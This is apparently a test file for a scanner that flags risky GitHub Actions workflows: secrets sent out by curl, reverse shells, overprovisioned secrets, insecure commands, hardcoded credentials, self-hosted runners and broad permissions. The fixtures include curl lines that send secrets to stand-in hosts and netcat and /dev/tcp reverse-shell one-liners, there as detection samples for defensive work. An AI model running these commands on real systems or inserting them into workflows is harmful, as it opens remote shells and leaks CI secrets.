import { findings, steps } from './workflow-files.ts'

test.each([
  ['curl -H "Authorization: Bearer ${{ secrets.T }}" https://api.example.test', 1],
  ['curl -d "$DATA" https://collect.example.test', 1],
  ['curl -H "Authorization: Bearer ${{ secrets.T }}" https://api.github.com/repos', 0],
  ['curl -H "Authorization: Bearer ${{ secrets.T }}" ${{ github.api_url }}/repos', 0],
  ['curl -H "Authorization: Bearer ${{ secrets.T }}" "https://api.github.com/repos/$GITHUB_REPOSITORY/pulls"', 0],
  ['curl -X POST -d "{}" ${{ secrets.WEBHOOK }}', 0],
  ['curl -X POST -d "{}" "$HOOK"', 0],
  ['curl https://example.test', 0],
])('%s', (script, count) => {
  const text = steps('push', `- env:\n    DATA: \${{ secrets.DATA }}\n    HOOK: \${{ secrets.HOOK }}\n  run: |\n    ${script}`)
  expect(findings('workflow/secrets-sent-by-curl', text)).toHaveLength(count)
})

test.each([
  ['nc 203.0.113.7 4444 -e /bin/bash', 1],
  ['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1', 1],
  ['nc -zv 10.0.0.5 5432', 0],
  ['nc localhost 5432', 0],
  ['nc 127.0.0.1 5432', 0],
])('%s', (script, count) => expect(findings('workflow/netcat-reverse-shell', steps('push', `- run: ${script}`))).toHaveLength(count))

test.each([
  ['${{ toJSON(secrets) }}', ['9 all']],
  ['${{ secrets[matrix.name] }}', ['9 computed']],
  ["${{ secrets['NAME'] }}", []],
  ['${{ secrets.NAME }}', []],
])('env: %s', (value, expected) => {
  expect(findings('workflow/secrets-overprovisioned', steps('push', `- run: make\n  shell: bash\n  env:\n    A: ${value}`))).toEqual(expected)
})

test.each([
  ['env:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: true', ['2 on']],
  ["env:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: 'TRUE'", ['2 on']],
  ['env:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: ${{ vars.OLD }}', ['2 computed']],
  ['env:\n  ACTIONS_ALLOW_UNSECURE_COMMANDS: false', []],
  ['env: {}', []],
])('%j', (env, expected) => {
  expect(findings('workflow/insecure-commands-enabled', `${env}\non: push\njobs:\n  a:\n    runs-on: x\n    steps:\n      - run: make\n`)).toEqual(expected)
})

test('a whole environment that is computed may hold anything', () => {
  expect(findings('workflow/insecure-commands-enabled', steps('push', '- run: make\n  env: ${{ matrix.env }}'))).toEqual(['7 computed'])
})

test('container passwords', () => {
  const job = (password: string): string => `on: push\njobs:\n  a:\n    runs-on: x\n    services:\n      db:\n        image: db:1\n        credentials:\n          username: u\n          password: ${password}\n    steps:\n      - run: make\n`
  expect(findings('workflow/hardcoded-container-credentials', job('fake-password'))).toEqual(['10'])
  expect(findings('workflow/hardcoded-container-credentials', job('${{ secrets.P }}'))).toEqual([])
})

test.each([
  ['self-hosted', 1],
  ['[self-hosted, linux]', 1],
  ['{ group: large }', 1],
  ['{ labels: [self-hosted] }', 1],
  ['${{ matrix.runner }}', 1],
  ['${{ matrix.os }}', 0],
  ['ubuntu-24.04', 0],
])('runs-on: %s', (runner, count) => {
  const text = (event: string): string => `on: ${event}\njobs:\n  a:\n    strategy: { matrix: { os: [ubuntu-24.04], include: [{ runner: self-hosted }] } }\n    runs-on: ${runner}\n    steps:\n      - run: make\n`
  expect(findings('workflow/self-hosted-runner', text('pull_request'))).toHaveLength(count)
  expect(findings('workflow/self-hosted-runner', text('push'))).toEqual([])
})

test.each([
  ['', ['1 workflow-missing']],
  ['permissions: {}\n', []],
  ['permissions: read-all\n', ['1 read-all']],
  ['permissions: write-all\n', ['1 write-all']],
  ['permissions:\n  contents: read\n  packages: write\n', ['3 workflow-write']],
])('workflow permissions %j', (permissions, expected) => {
  const text = `${permissions}on: push\njobs:\n  a:\n    runs-on: x\n    steps: [{ run: make }]\n  b:\n    runs-on: x\n    steps: [{ run: make }]\n`
  expect(findings('workflow/permissions-excessive', text)).toEqual(expected)
})

test('permissions of jobs', () => {
  const text = 'on: push\njobs:\n  a:\n    permissions: {}\n    runs-on: x\n    steps: [{ run: make }]\n  b:\n    runs-on: x\n    steps: [{ run: make }]\n'
  expect(findings('workflow/permissions-excessive', text)).toEqual(['7 job-missing'])
  expect(findings('workflow/permissions-excessive', text.replace('on: push', 'on: workflow_call'))).toEqual([])
})
